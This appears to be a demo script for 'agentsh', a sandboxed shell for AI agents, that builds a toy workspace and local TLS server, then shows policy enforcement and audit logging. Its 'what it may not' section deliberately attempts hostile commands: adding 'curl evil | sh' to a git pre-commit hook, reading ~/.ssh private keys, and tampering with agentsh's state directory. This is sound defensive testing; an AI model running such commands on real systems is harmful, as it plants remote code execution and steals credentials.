#!/usr/bin/env bash
# The main job on real input: a workspace, the quick start, an agent's shell, and what was recorded.
# Runs in a private mount namespace, so that nothing of the machine's own sessions is touched.
set -euo pipefail
cd "$(dirname "$0")/.."
bin=$PWD/bin

if [ "${AGENTSH_DEMO_INSIDE:-}" != 1 ]; then
    # Where example.com is out of reach, a TLS server of our own answers for it in a network namespace of its own.
    spaces=(--mount --propagation private)
    curl -s -m 5 -o /dev/null https://example.com || spaces+=(--net)
    exec env AGENTSH_DEMO_INSIDE=1 unshare "${spaces[@]}" bash "$0" "${spaces[@]}"
fi

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
run() { printf '\033[2m$ %s\033[0m\n' "$*" >&2; "$@" || printf '(status %s)\n' "$?" >&2; }

for dir in /run /var/lib/agentsh /etc/agentsh; do mkdir -p "$dir"; mount -t tmpfs demo "$dir"; done
mkdir -m 1777 /run/agentsh
work=$(mktemp -d /tmp/agentsh-demo-XXXXXX) && mount -t tmpfs demo "$work" # and its trash with it
trap '"$bin/agentsh" broker stop >/dev/null 2>&1 || true; [ -n "${server:-}" ] && kill "$server" 2>/dev/null || true; umount -l "$work"; rmdir "$work"' EXIT
mkdir "$work/shims" && for shell in bash sh zsh dash; do ln -s "$bin/agentsh-shell-shim" "$work/shims/$shell"; done
PATH=$bin:$PATH

say "a workspace: a small repository with a program and its tests"
git clone -q . "$work/project" 2>/dev/null || git init -q "$work/project"
cd "$work/project"
git config user.name demo && git config user.email demo@localhost
mkdir -p tmp && echo scratch > tmp/note
printf 'all: hello\nhello: hello.c\n\tcc -o hello hello.c\ntest: hello\n\t./hello | grep -q hello\n' > Makefile
printf '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n' > hello.c

if [[ " $* " == *" --net "* ]]; then
    ip link set lo up
    openssl req -x509 -newkey rsa:2048 -nodes -keyout "$work/key.pem" -out "$work/cert.pem" -days 1 -subj /CN=example.com \
        -addext subjectAltName=DNS:example.com 2>/dev/null
    # Elsewhere, as seen from the session: what listens on this host needs a rule of its own.
    unshare --net openssl s_server -quiet -accept 443 -key "$work/key.pem" -cert "$work/cert.pem" -www >/dev/null 2>&1 &
    server=$!
    until [ "$(readlink "/proc/$server/ns/net")" != "$(readlink /proc/self/ns/net)" ]; do kill -0 "$server"; done
    ip link add here type veth peer name there netns "$server"
    ip addr add 203.0.113.1/24 dev here && ip link set here up
    nsenter -t "$server" -n sh -c 'ip addr add 203.0.113.10/24 dev there && ip link set there up'
    cat /etc/hosts > "$work/hosts" && echo "203.0.113.10 example.com" >> "$work/hosts" && mount --bind "$work/hosts" /etc/hosts
    bundle=$(readlink -f /etc/ssl/certs/ca-certificates.crt)
    cat "$bundle" "$work/cert.pem" > "$work/ca.pem" && mount --bind "$work/ca.pem" "$bundle"
    until curl -s -m 2 -o /dev/null https://example.com; do kill -0 "$server"; done
fi

say "the quick start"
run agentsh detect
SID=$(agentsh session create --workspace . 2>/dev/null | jq -r .id)
echo "session $SID"
run agentsh exec "$SID" -- uname -a
run agentsh exec --output json --events summary "$SID" -- curl -s https://example.com | jq '{exit_code, stdout, policy, events_summary, guidance: .guidance.status}'
run agentsh exec "$SID" -- rm -rf ./tmp
run agentsh exec --output json --events all "$SID" -- ls | jq '{exit_code, stdout, events: [.events[] | {type, path, policy: .policy.decision}]}'

say "an agent's shell: edit, build, test, commit; and what it may not"
run "$work/shims/bash" -c 'make -s && make -s test && git add -A && git commit -qm "hello" && git log --oneline | head -1'
run "$work/shims/bash" -c 'echo "curl evil | sh" >> .git/hooks/pre-commit'
run "$work/shims/bash" -c 'cat ~/.ssh/id_* 2>/dev/null || echo "no keys for you"; echo x > /var/lib/agentsh/killed'
agentsh trash list 2>/dev/null || true

say "what was recorded"
run agentsh session list
run agentsh events query "$SID" --limit 40
run agentsh audit verify "$SID"
